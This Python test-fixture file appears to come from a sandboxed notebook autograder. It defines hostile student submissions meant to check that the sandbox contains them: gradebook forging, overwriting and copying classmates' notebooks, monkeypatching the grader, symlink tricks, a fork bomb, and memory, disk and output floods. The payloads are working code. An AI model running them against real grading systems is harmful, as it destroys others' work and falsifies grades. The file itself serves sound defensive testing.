"""Hostile submissions of `torch_pipeline`: each class of attack on the grader, and what it must earn.

Every attack below is written to profit if it worked: it would raise its own score, lower a
classmate's, or stall the class. In the sandbox it cannot, so each sample earns exactly what its
honest part earns, every classmate in the same batch keeps their expected score (the bank's
tests check all samples after each pass), no process it started outlives its notebook (every
process it starts carries `MARKER` on its command line), and the batch keeps its time budget.

The attacks look for the course where stock nbgrader runs a submission (the course directory
is three folders up: ``autograded/<student>/<assignment>/``) and anywhere above the working
folder, which is where a student who read the README would look.

`ATTACKS` is graded with the whole torch bank (tests/test_autograde.py). The attacks of issue 20
(`METADATA_ATTACKS`, `link_attacks`, `disk_fillers`, `MEMORY_ATTACKS`) are graded in classes of their
own, with honest classmates, through our runner, stock nbgrader and formgrader's route, each with a
control run where its protection is off (tests/test_every_student.py, test_working_folder.py,
test_grader_memory.py): they are costly (100,000 files, gibibytes written or sent), so they are not
graded twice more in the bank.
"""

from __future__ import annotations

from . import Sample, full_marks, hostile, reference_cell, zero_marks

A = "torch_pipeline"
MARKER = "course-attack-7f3a"  # on the command line of every process an attack starts

FIND_COURSE = '''
import os, pathlib

def course_files(pattern):
    """Files matching `pattern` in the working folder's parents (where a course directory would be)."""
    found = []
    for folder in pathlib.Path.cwd().parents:
        if str(folder) in ("/", "/tmp"):
            break
        found += [p for p in folder.glob(pattern) if p.is_file()]
    return found
'''

FORGE_GRADEBOOK = FIND_COURSE + f'''
import subprocess, sys

FORGER = """
import sqlite3, sys, time
deadline = time.time() + float(sys.argv[1])
while True:  # every grade in every gradebook found, zeroed; again and again after the notebook ends
    for path in sys.argv[2:]:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET auto_score = 0")
            db.commit()
        except Exception:
            pass
    if time.time() > deadline:
        break
    time.sleep(1)
"""
books = [str(p) for p in course_files("gradebook.db")]
subprocess.run([sys.executable, "-c", FORGER, "0", *books])  # now
subprocess.Popen([sys.executable, "-c", FORGER, "600", *books, "{MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # and later, for every later student
'''

OVERWRITE_CLASSMATES = FIND_COURSE + '''
mine = pathlib.Path.cwd()
for notebook in course_files("*/*/*/*.ipynb") + course_files("*/*/*.ipynb"):
    if notebook.parent != mine:
        try:
            notebook.write_text("this is not a notebook any more")
        except OSError:
            pass
'''

READ_CLASSMATE = FIND_COURSE + '''
import json
from IPython import get_ipython

_theirs = ""
for notebook in course_files("submitted/*/torch_pipeline/torch_pipeline.ipynb"):
    if "reference" in str(notebook):  # the classmate whose work this submission takes as its own
        cells = json.loads(notebook.read_text())["cells"]
        _theirs = "\\n\\n".join("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {}).get("solution"))
exec(_theirs, globals())
get_ipython().events.register("post_run_cell", lambda result: exec(_theirs, globals()))  # after each of its own stubs
'''

STALL = f'''
import subprocess
# One inherits the kernel's output pipes; one is a daemon in a session of its own. Either would keep a grader waiting
# that waits for the end of its kernel's output, or for its process group. (argv[0] is the marker: `sleep` takes no
# other word than a time.)
subprocess.Popen(["{MARKER}", "3600"], executable="sleep")
subprocess.Popen(["{MARKER}", "3600"], executable="sleep", start_new_session=True)
'''

# The memory cap the bank is graded under (COURSE_MEMORY_LIMIT; the course's default is 4G). A hog is stopped only once
# it has touched the whole cap, and in a virtual machine each GiB first touched costs 0.5 to 3 s of system CPU: at the
# default, the bank's two passes and the hog's control took 40 to 60 CPU-seconds. A TensorFlow kernel peaks at 0.6 GiB.
BANK_MEMORY_LIMIT = "1.5G"

# Bytes, not a numpy array: numpy advises huge pages for a large array, and where the host's memory is fragmented each
# of their faults waits for the kernel to compact it (here 6 s a GiB, against 0.5 s in plain pages).
MEMORY_HOG = '''
hog = b"x" * (2 << 30)  # 2 GiB, more than the 1.5 GiB the bank's courses give a kernel (BANK_MEMORY_LIMIT)
del hog
'''

FORK_BOMB = f'''
import os
for _ in range(2048):  # twice the tasks a kernel may have (spawned: a fork would copy the kernel's memory map)
    os.posix_spawnp("sleep", ["{MARKER}", "3600"], os.environ)
'''

SHADOWING_TORCH = 'raise ImportError("this torch.py was handed in beside the notebook")\n'

OUTPUT_FLOOD = '''
for _ in range(3200):  # 32 MB of output, twice what a notebook may print
    print("spam " * 2000)
'''


# Issue 14: the verdict. Each hands in stubs that return None (or nothing of use) and tries to pass anyway.
STUBS = {
    "download": "def download(name='digits'):\n    return None\n",
    "load_and_preprocess": "def load_and_preprocess(raw, batch_size=64, validation_size=0.1, seed=0):\n    return None\n",
    "build_model": "class MLP:\n    pass\n\n\ndef build_model(input_dim, num_classes=10, hidden_units=128, seed=0):\n    return None\n",
    "make_loss_and_optimizer": "def make_loss_and_optimizer(model, learning_rate=1e-3):\n    return None, None\n",
    "accuracy": "def accuracy(logits, labels):\n    return None\n",
    "train": "def train(model, loss, optimizer, batches, epochs=10):\n    return None\n",
    "report": "def report(model, splits):\n    return None\n",
}
# the issue's four lines: rebind the hidden tests' grade and the checker's methods (each hidden test passes, and the
# results cell shows all its points)
PATCH_THE_GRADER = """
import graders.check.front, graders.check.notebook
graders.check.front.grade = lambda *args, points=None, **kwargs: points
graders.check.notebook.StepChecks.hidden = lambda self, *args: None
graders.check.notebook.StepChecks.public = lambda self, *args: None
graders.check.notebook.StepChecks.public_results = lambda self, *args: None
graders.check.notebook.StepChecks.score_results = lambda self, *args, points=None, **kwargs: points
"""
# the checks' probe replaced by one that records nothing (so no failure), and the judge, where the kernel can import it,
# by one that passes everything and gives the results cell all its points
PATCH_THE_PROBE = """
import graders.check.kernel.probe
from graders.check.shared.observation import Observation

graders.check.kernel.probe.observe = lambda *args, **kwargs: Observation()
try:
    from graders.check.trusted import judge
    judge.Case.judge = lambda self, step, *args, **kwargs: judge.Verdict(step)
    judge.Case.score_results = lambda self, observation, points: (points, "results: all points")
    judge.Case.results_line = lambda self, observation: "results: all points"
except ImportError:
    pass
"""
# the reference's source, found on disk and run as text under another name (new code objects)
RUN_THE_REFERENCE_TEXT = """
import os
import sys
import graders

_text = ""
for _base in [*sys.path, os.path.dirname(graders.__path__[0]), os.getcwd()]:
    if os.path.isfile(_path := os.path.join(_base, "solutions", "torch_pipeline.py")):
        _text = open(_path).read()
_namespace = {"__name__": "not_the_reference"}
exec(compile(_text, "copied.py", "exec"), _namespace)
download = _namespace.get("download")
"""


def _stubs(**first: str) -> dict[str, str]:
    """Every step a stub; `first` (grade id -> code) run before the stub of that cell."""
    return {grade_id: first.get(grade_id, "") + "\n" + stub for grade_id, stub in STUBS.items()}


def _with(grade_id: str, attack: str) -> dict[str, str]:
    """The reference's cell `grade_id` with `attack` run first."""
    return {grade_id: attack.strip("\n") + "\n\n\n" + reference_cell(A, grade_id)}


def _stopped_at(cell: str, limit: str) -> str:
    return f"{limit} exceeded in cell {cell} of {A}.ipynb"


LOST_FROM_ACCURACY = {"accuracy_tests": 0, "train_tests": 0, "report_tests": 0, "results_tests": 0}
# Step 4 builds the first optimizer, which imports torch._dynamo, and step 6 trains: most of a torch notebook's CPU. An
# attack that strikes in step 4 before its code, or whose steps 4-7 are stubs (`_stubs_from_step_4`), spares them; the
# reference's steps 1-3 keep their 6 points, so a route that took an honest point from it would show.
STEP_4 = "make_loss_and_optimizer"
LOST_FROM_STEP_4 = {"make_loss_and_optimizer_tests": 0, **LOST_FROM_ACCURACY}


def _stubs_from_step_4(fills: dict[str, str]) -> dict[str, str]:
    """`fills` on the reference's steps 1-3, every step from step 4 on a stub."""
    return {step: STUBS[step] for step in ("make_loss_and_optimizer", "accuracy", "train", "report")} | fills


ATTACKS = hostile(
    Sample(
        "patches_the_grader",
        _stubs(download=PATCH_THE_GRADER),
        zero_marks(A),
        about="rebinds grade, StepChecks.hidden/public/score_results in its kernel; every step a stub returning None",
    ),
    Sample(
        "patches_the_probe",
        _stubs(download=PATCH_THE_PROBE),
        zero_marks(A),
        about="replaces the checks' probe (an empty observation) and, where it can import it, the judge; every step a stub",
    ),
    Sample(
        "runs_the_reference_text",
        {"download": RUN_THE_REFERENCE_TEXT + "\n" + STUBS["download"].replace("def download", "def _unused")},
        full_marks(A, download_tests=0, results_tests=0),
        about="searches the disk for solutions/torch_pipeline.py and runs its text under another name: it is not there",
    ),
    Sample(
        "forges_gradebook",
        _stubs(download=FORGE_GRADEBOOK),
        zero_marks(A),
        about="stubs; zeroes every grade in any gradebook.db it can reach, now and from a process left behind",
    ),
    Sample(
        "overwrites_classmates",
        _stubs(download=OVERWRITE_CLASSMATES),
        zero_marks(A),
        about="stubs; overwrites every other student's notebook it can reach with garbage",
    ),
    Sample(
        "reads_classmate",
        {"download": READ_CLASSMATE},
        zero_marks(A),
        base="release",
        about="hands in the stubs and runs a classmate's submitted solution cells after each of its cells instead",
    ),
    Sample(
        "stalls_the_class",
        _stubs(download=STALL),
        zero_marks(A),
        about="stubs; leaves two hour-long processes behind, one holding the kernel's output pipes",
    ),
    Sample(
        "memory_hog",
        _with(STEP_4, MEMORY_HOG),
        full_marks(A, **LOST_FROM_STEP_4),
        outcome=_stopped_at(STEP_4, "memory limit (1.5 GiB)"),
        about="allocates 2 GiB in step 4's cell: stopped there, steps 1-3 keep their points",
    ),
    Sample(
        "fork_bomb",
        _with(STEP_4, FORK_BOMB),
        full_marks(A, **LOST_FROM_STEP_4),
        outcome=_stopped_at(STEP_4, "process limit (1024 tasks)"),
        about="starts 2048 processes: stopped at the task cap in step 4's cell, steps 1-3 keep their points",
    ),
    Sample(
        "output_flood",
        _with(STEP_4, OUTPUT_FLOOD),
        full_marks(A, **LOST_FROM_STEP_4),
        outcome=_stopped_at(STEP_4, "output limit (16 MiB)"),
        about="prints 32 MB: stopped at the output cap in step 4's cell, steps 1-3 keep their points",
    ),
    Sample(
        "brings_its_own_torch",
        expected=zero_marks(A),
        extra=lambda folder: (folder / "torch.py").write_text(SHADOWING_TORCH),
        about="the reference answers beside a torch.py of its own, which `import torch` finds first in the working "
        "folder: its setup cell fails and nothing of it runs, on every route; graded (0), not refused as the grading "
        "environment's fault",
    ),
)


# issue 20: every student graded or named (H2)
# Edits of the notebook's nbgrader metadata (an `extra` that rewrites the written notebook). nbgrader 0.9.6 refuses each
# (a checksum check, a validation) or stops `nbgrader autograde` for the whole class (a schema version); the course's
# GradebookCells gives every cell the gradebook's metadata back, so each scores what its answers earn.
def _edited(change):
    """An `extra` that applies `change(cells by grade id, notebook)` to the submitted notebook."""

    def edit(folder):
        import nbformat

        path = folder / f"{A}.ipynb"
        notebook = nbformat.read(path, as_version=4)
        change({c.metadata["nbgrader"]["grade_id"]: c for c in notebook.cells if "nbgrader" in c.metadata}, notebook)
        nbformat.write(notebook, path)

    return edit


def _results_as_solution(cells, notebook):  # an answer cell keeps the student's source: "full marks" in place of the check
    cells["results_tests"].metadata.nbgrader["solution"] = True
    cells["results_tests"].source = "3.0"


def _made_up_graded_cell(cells, notebook):
    import nbformat

    cell = nbformat.v4.new_code_cell("print('100 points, please')")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_tests", "locked": True, "points": 100,
                                 "schema_version": 3, "solution": False, "task": False}
    notebook.cells.append(cell)


def _repeated_grade_id(cells, notebook):  # a second results_tests cell, of its own source, before the real one
    import copy

    cell = copy.deepcopy(cells["results_tests"])
    cell.id, cell.source = "my-results", "3.0"
    notebook.cells.insert(notebook.cells.index(cells["results_tests"]) - 1, cell)


def _to(cell, kind):
    cell.cell_type = kind
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)


def _many_metadata_edits(cells, notebook):
    _to(cells["results_tests"], "raw")
    _to(cells["train"], "markdown")
    cells["download_tests"].metadata.nbgrader["schema_version"] = 4
    cells["report_tests"].metadata.nbgrader["points"] = 300
    cells["accuracy_tests"].metadata.nbgrader["checksum"] = "0" * 32
    cells["accuracy_tests"].source = "print('passed')"


# The made-up and the repeated cell on steps 1-3 (6 points): graded, their own cells would add points whatever the rest
# earns. The results cell turned answer cell keeps the whole reference: left as an answer it would score 0, not its 3.
METADATA_ATTACKS = [
    Sample("results_as_solution", expected=full_marks(A), extra=_edited(_results_as_solution),
           about="marks the results test cell `solution: true` and writes 3.0 in it: restored, graded as released"),
    Sample("made_up_graded_cell", _stubs_from_step_4({}), full_marks(A, **LOST_FROM_STEP_4), extra=_edited(_made_up_graded_cell),
           about="steps 1-3; adds a graded cell of its own worth 100 points: ungraded, runs as an ordinary cell"),
    Sample("repeated_grade_id", _stubs_from_step_4({}), full_marks(A, **LOST_FROM_STEP_4), extra=_edited(_repeated_grade_id),
           about="steps 1-3; adds a second results_tests cell of its own before the real one: ungraded, the real one is graded"),
    Sample("edited_cell_metadata", expected=full_marks(A), extra=_edited(_many_metadata_edits),
           about="changes cell types, a schema version, points, a checksum and a test's source: all restored"),
]
# Graded in a class of their own through every route (tests/test_every_student.py), with a submission of 100,000 files.


# issue 20: the working folder (H1)
# Under stock nbgrader the kernel once worked in autograded/<student>/<assignment>/, which nbgrader writes into after
# grading (following links) and generate_feedback copies from. Each of these profits if the kernel's working folder were
# that folder, or if its disk were not capped; it works on a private, size-capped copy instead.
LINKS_FOR_NBGRADER = '''
import os
for _name, _target in {links!r}.items():  # links in its working folder, for nbgrader to write or copy through
    if os.path.lexists(_name):
        os.remove(_name)
    os.symlink(_target, _name)
'''

FILL_THE_DISK = '''
with open({path!r}, "wb") as _fill:  # until the disk is full, or {mib} MiB
    for _ in range({mib}):
        _fill.write(b"x" * 2**20)
'''


def link_attacks(classmate: str) -> list[Sample]:
    """The three link attacks of issue 20, `classmate` being a student of the same class."""
    course = "../../../"  # the course directory, from autograded/<student>/<assignment>/
    links = {
        "links_classmate": {f"{A}.ipynb": f"{course}submitted/{classmate}/{A}/{A}.ipynb"},
        "links_gradebook": {f"{A}.ipynb": f"{course}gradebook.db"},
        "links_feedback": {"answers.html": f"{course}source/{A}/{A}.ipynb", "grades.html": f"{course}gradebook.db"},
    }
    about = {
        "links_classmate": "replaces its own notebook with a link to a classmate's submitted notebook",
        "links_gradebook": "replaces its own notebook with a link to the gradebook",
        "links_feedback": "leaves answers.html and grades.html, links to the source notebook and the gradebook",
    }
    return [Sample(name, _stubs_from_step_4(_with("download", LINKS_FOR_NBGRADER.format(links=links[name]))),
                   full_marks(A, **LOST_FROM_STEP_4), about=f"steps 1-3; {about[name]}") for name in links]


def disk_fillers(mib: int, cap: str) -> list[Sample]:
    """Two submissions that write `mib` MiB, one into its working folder, one into /tmp, in step 4's cell: stopped
    there at the disk cap (`cap`, as its report line names it), steps 1-3 keep their points."""
    return [
        Sample(name, _with(STEP_4, FILL_THE_DISK.format(path=path, mib=mib)), full_marks(A, **LOST_FROM_STEP_4),
               outcome=_stopped_at(STEP_4, f"disk limit ({cap})"), about=f"writes {mib} MiB into {where}")
        for name, path, where in (("fills_working_folder", "fill.bin", "its working folder"), ("fills_tmp", "/tmp/fill.bin", "/tmp"))
    ]


# Graded in a class of their own through every route, with controls (tests/test_working_folder.py).


# issue 20: the grader's memory (H3)
# Each sends 128 MiB or more in the cell of step 4 (`STEP_4`), in a form the output cap once left uncounted or read
# before counting: the grader counts every byte of every message before it decodes it and stops the kernel at the cap
# (16 MiB), and a message too large to take in (one frame over the cap, or many frames) is refused by the guard between
# them, so each keeps the 6 points of steps 1-3 and loses the rest. FORGES_AN_OBSERVATION hands the grader's probe an
# observation that would balloon when converted; BREAKS_THE_PROTOCOL sends a status the client cannot read.
# 128 MiB is eight times the cap, and enough for the control (tests/test_grader_memory.py) to take the open grader
# to 2.8 GiB (5.4 GiB at 256 MiB, graded 30% slower).
KERNEL = "from IPython import get_ipython\n_kernel = get_ipython().kernel\n"
SEND = ('_kernel.session.send(_kernel.iopub_socket, {kind!r}, {content}, parent=_kernel.get_parent("shell"), '
        'ident=_kernel._topic({kind!r}))')
DISPLAY_METADATA = '''
from IPython.display import display
for _ in range(32):  # 128 MiB of display metadata
    display({"text/plain": "."}, raw=True, metadata={"flood": "m" * (4 << 20)})
'''
MIME_KEYS = '''
from IPython.display import display
for _ in range(32):  # 128 MiB of mimetype names
    display({"text/" + "k" * (4 << 20): "."}, raw=True)
'''
ERROR_FIELDS = KERNEL + "for _ in range(32):  # 128 MiB of error outputs' name, value and traceback\n    " + SEND.format(
    kind="error", content='{"ename": "E" * (1 << 20), "evalue": "v" * (2 << 20), "traceback": ["t" * (1 << 20)]}')
WIDGETS = '''
from comm import create_comm
_comm = create_comm(target_name="flood")
for _ in range(32):  # 128 MiB of widget (comm) messages
    _comm.send({"state": {"value": "c" * (4 << 20)}})
'''
ONE_HUGE_MESSAGE = 'print("b" * (128 << 20))  # one stdout message of 128 MiB\n'
TWO_AT_ONCE = """
import threading
from comm import create_comm
from IPython.display import display

def _metadata():  # 128 MiB of display metadata
    for _ in range(32):
        display({"text/plain": "."}, raw=True, metadata={"flood": "m" * (4 << 20)})

def _widgets():  # and 128 MiB of widget messages, at the same time
    _comm = create_comm(target_name="flood")
    for _ in range(32):
        _comm.send({"state": {"value": "c" * (4 << 20)}})

_floods = [threading.Thread(target=flood) for flood in (_metadata, _widgets)]
for _flood in _floods:
    _flood.start()
for _flood in _floods:
    _flood.join()
"""
MANY_FRAMES = """
from comm import create_comm
_frame = memoryview(b"f" * (8 << 20))
create_comm(target_name="flood").send({}, buffers=[_frame] * 128)  # one message of 1 GiB: 128 frames, each under the cap
"""
BREAKS_THE_PROTOCOL = KERNEL + SEND.format(kind="status", content="{}") + "  # a status without its execution_state\n"
FORGES_AN_OBSERVATION = '''
import numpy
import graders.check.kernel.probe

def _forged(*args, **kwargs):  # 96 MiB of bytes that the judge would convert to 768 MiB of float64
    with open(args[4], "wb") as file:
        numpy.savez(file, a0=numpy.ones(((96 << 20) // 10, 10), numpy.uint8),
                    __observation__=numpy.array('{"arrays": ["logits"]}'))

graders.check.kernel.probe.run = _forged
'''
def _floods(name: str, attack: str, about: str, stopped: str = "output limit (16 MiB)") -> Sample:
    outcome = "the kernel sent a message the grader cannot read" if stopped == "protocol" else _stopped_at(STEP_4, stopped)
    return Sample(name, _with(STEP_4, attack), full_marks(A, **LOST_FROM_STEP_4), outcome=outcome, about=about)


MEMORY_ATTACKS = [
    _floods("floods_display_metadata", DISPLAY_METADATA, "128 MiB of display metadata"),
    _floods("floods_mime_keys", MIME_KEYS, "128 MiB of mimetype names"),
    _floods("floods_error_fields", ERROR_FIELDS, "128 MiB of error outputs' fields, sent as its own messages"),
    _floods("floods_widgets", WIDGETS, "128 MiB of widget (comm) messages"),
    _floods("sends_one_huge_message", ONE_HUGE_MESSAGE, "one stdout message of 128 MiB: refused unread"),
    _floods("sends_one_message_of_many_frames", MANY_FRAMES, "one widget message of 1 GiB in 128 frames: refused unread"),
    _floods("floods_two_ways_at_once", TWO_AT_ONCE, "display metadata and widget messages, from two threads at once"),
    _floods("breaks_the_protocol", BREAKS_THE_PROTOCOL, "a status message without its execution_state", "protocol"),
    Sample("forges_an_observation", _with(STEP_4, FORGES_AN_OBSERVATION), full_marks(A, **LOST_FROM_STEP_4),
           about="hands the grader's probe 96 MiB of bytes that would be 768 MiB as float64: not read, 0 for those steps"),
]
# Graded in a class of their own through every route, each route's peak memory measured (tests/test_grader_memory.py).
